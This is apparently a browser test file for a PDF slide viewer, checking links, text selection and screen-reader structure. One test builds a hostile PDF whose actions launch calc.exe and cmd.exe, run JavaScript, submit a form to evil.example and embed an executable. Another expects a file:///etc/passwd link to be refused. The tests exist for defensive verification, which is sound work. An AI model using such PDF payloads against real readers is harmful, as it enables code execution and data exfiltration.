import assert from 'node:assert/strict';
import { join } from 'node:path';
import { root } from '../../../tools/process.mjs';
import { makePdf } from '../../fixtures/pdf.ts';
import { linkedDeck } from '../linkedDeck.ts';
import { type Message, Pages } from '../pages.ts';
import { Viewer, waitUntil } from '../viewer.ts';

let pages: Pages;
let viewer: Viewer;

describe('what is on slides in a browser', () => {
  before(async () => {
    pages = await Pages.start(join(root, 'dist', 'webview'));
  });
  after(() => pages?.stop());
  beforeEach(async () => {
    viewer = await Viewer.open(pages);
  });
  afterEach(() => viewer.close());

  /** A piece of the text layer. */
  const piece = (text: string) => viewer.page.locator('.textLayer [role=presentation]', { hasText: text }).first();

  describe('links in the slide viewer', () => {
    const link = (name: string) => viewer.page.getByRole('link', { name });
    type Sent = Message & { readonly href?: string; readonly reason?: string; readonly back?: boolean };

    it('go to places of the deck, and the way back leads back', async () => {
      await viewer.give(linkedDeck);
      await link('page on skew').click();
      await viewer.at('1');
      assert.equal(((await viewer.sent(({ type }) => type === 'history')) as Sent).back, true);
      await viewer.opened.receive({ type: 'travel', by: -1 });
      await viewer.at('i');
      await viewer.opened.receive({ type: 'travel', by: 1 });
      await viewer.at('1');
    });

    it('hand every other address to the editor, by keyboard too, and say in words where they lead', async () => {
      await viewer.give(linkedDeck);
      await link('the lab').focus();
      await viewer.press('Enter');
      const hrefs = async () =>
        (await viewer.opened.sent()).filter(({ type }) => type === 'openLink').map((sent) => (sent as Sent).href);
      await waitUntil(async () => (await hrefs()).length === 1);
      for (const name of ['another deck', 'a letter', 'what is refused']) await link(name).click();
      await viewer.page.getByTitle('https://www.tensorflow.org/tfx/serving').first().click();
      await waitUntil(async () => (await hrefs()).length === 5);
      assert.deepEqual(await hrefs(), [
        'mlops-lab:lab/C2_W2_Lab_1#cell-3',
        'other.pdf#page=2',
        'mailto:teacher@example.org',
        'file:///etc/passwd',
        'https://www.tensorflow.org/tfx/serving',
      ]);
      assert.match((await link('what is refused').getAttribute('title'))!, /“file:” are not opened/);
    });

    it('of a hostile deck run nothing: no script, no program, no embedded file, no form', async () => {
      const annotation = (action: string, at: number) =>
        `<< /Type /Annot /Subtype /Link /Rect [${at * 60} 100 ${at * 60 + 50} 150] /A << ${action} >> >>`;
      const annotations = [
        '/S /JavaScript /JS (app.alert\\(1\\))',
        '/S /Launch /F (calc.exe)',
        '/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>',
        '/S /GoToR /F (\\\\\\\\server\\\\share\\\\x.pdf) /D [0 /Fit]',
        '/S /SubmitForm /F (https://evil.example/collect)',
        '/S /ImportData /F (secret.fdf)',
        '/S /GoToE /T << /R /C /N (payload.pdf) >>',
        '/S /Named /N /Print',
        '/S /GoTo /D [99 /Fit]',
        '/S /URI /URI (javascript:alert\\(1\\))',
      ].map(annotation);
      const widget =
        '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [10 10 200 40] /AA << /Fo << /S /JavaScript /JS (app.alert\\(2\\)) >> >> >>';
      const file =
        '<< /Type /Annot /Subtype /FileAttachment /Rect [300 10 340 40] /FS << /Type /Filespec /F (x.exe) >> >>';
      const catalog = '/OpenAction << /S /JavaScript /JS (app.alert\\(3\\)) >> /AcroForm << /Fields [] >>';
      await viewer.give(makePdf([{ text: 'Hostile', annotations: [...annotations, widget, file] }], { catalog }));
      const links = viewer.page.locator('.mlops-lab-link');
      await waitUntil(async () => (await links.count()) === annotations.length);
      for (let each = 0; each < annotations.length; each++) await links.nth(each).click();
      const told = async () =>
        (await viewer.opened.sent()).filter(({ type }) => type === 'openLink' || type === 'refused') as Sent[];
      await waitUntil(async () => (await told()).length === annotations.length);
      // Addresses are left to the editor, which refuses each of these (see the table of links).
      assert.deepEqual((await told()).map(({ href }) => href).filter(Boolean), [
        'calc.exe',
        '\\\\server\\share\\x.pdf#[0,{"name":"Fit"}]',
        'javascript:alert(1)',
      ]);
      for (const { reason } of (await told()).filter(({ type }) => type === 'refused'))
        assert.match(reason!, /^This link .*\.$/);
      assert.equal(await viewer.page.locator('input:not(.mlops-lab-page-field input)').count(), 0);
    });
  });

  describe('selecting text in the slide viewer', () => {
    async function select(from: string, to: string): Promise<void> {
      const box = async (text: string) => (await piece(text).boundingBox())!;
      const [first, last] = [await box(from), await box(to)];
      await viewer.page.mouse.move(first.x + 1, first.y + first.height / 2);
      await viewer.page.mouse.down();
      // Over the empty margin on the way: that must not select the whole page.
      await viewer.page.mouse.move(first.x + first.width + 60, first.y + first.height + 4, { steps: 5 });
      await viewer.page.mouse.move(last.x + last.width - 1, last.y + last.height / 2, { steps: 5 });
      await viewer.page.mouse.up();
    }

    const copied = () =>
      viewer.page.evaluate(() => {
        const data = new DataTransfer();
        document.dispatchEvent(new ClipboardEvent('copy', { clipboardData: data, bubbles: true, cancelable: true }));
        return data.getData('text/plain');
      });

    it('copies words whole and the lines of a paragraph joined', async () => {
      await viewer.give(linkedDeck);
      await viewer.press('ArrowRight');
      await viewer.at('ii');
      await piece('ting, which').waitFor();
      await select('One item', 'ting, which a line splits');
      await waitUntil(async () => (await copied()) !== '');
      assert.equal(await copied(), 'One item about features,\n• and another about overfitting, which a line splits.');
    });

    it('tells the editor what is selected, and on which page', async () => {
      await viewer.give(linkedDeck);
      await viewer.press('ArrowRight');
      await piece('ting, which').waitFor();
      await viewer.opened.receive({ type: 'quote' });
      assert.equal(((await viewer.sent(({ type }) => type === 'quote')) as Message & { text: string }).text, '');
      const before = (await viewer.opened.sent()).length;
      await select('One item', 'One item');
      await viewer.opened.receive({ type: 'quote' });
      const quote = await viewer.sent(({ type }) => type === 'quote', before);
      assert.deepEqual(quote, { type: 'quote', page: 2, text: 'One item about features,' });
    });
  });

  describe('the structure of tagged slides', () => {
    /** What Chromium tells a screen reader of a region: each role on a line, with the text in it. */
    async function accessibleTree(region: string): Promise<string> {
      const session = await viewer.page.context().newCDPSession(viewer.page);
      await session.send('Accessibility.enable');
      let told = '';
      await waitUntil(async () => {
        const { nodes } = await session.send('Accessibility.getFullAXTree');
        const byId = new Map(nodes.map((node) => [node.nodeId, node]));
        const tell = (id: string): string => {
          const node = byId.get(id);
          const within = (node?.childIds ?? []).map(tell).join('');
          if (!node || node.ignored || node.role?.value === 'generic') return within;
          if (node.role?.value === 'StaticText') return String(node.name?.value).trim();
          return `\n${node.role?.value}: ${within}`;
        };
        told = tell(nodes.find(({ role, name }) => role?.value === 'region' && name?.value === region)?.nodeId ?? '');
        return told.includes('heading');
      }, 'the structure in the accessibility tree');
      return told;
    }

    it('gives screen readers headings, lists, tables and what pictures show', async () => {
      await viewer.give(linkedDeck);
      await viewer.press('ArrowRight');
      const page = viewer.page.locator('.mlops-lab-page[data-page="2"]');
      await page.locator('.mlops-lab-structure').waitFor({ state: 'attached' });
      const tree = await accessibleTree('Page ii (2 of 5): Words');
      assert.match(
        tree,
        /heading: Words\nlist: \nlistitem: •One item about features,\nlistitem: •and another about overfit-ting, which/,
      );
      assert.match(
        tree,
        /table: \nrowgroup: \nrow: \ncolumnheader: Name\ncolumnheader: Value\nrowgroup: \nrow: \ncell: drift\ncell: 0.1/,
      );
      assert.equal(tree.match(/One item/g)?.length, 1, 'read once');
      await viewer.press('ArrowRight');
      await viewer.page.getByRole('img', { name: 'A curve that rises' }).waitFor({ state: 'attached' });
    });
  });
});
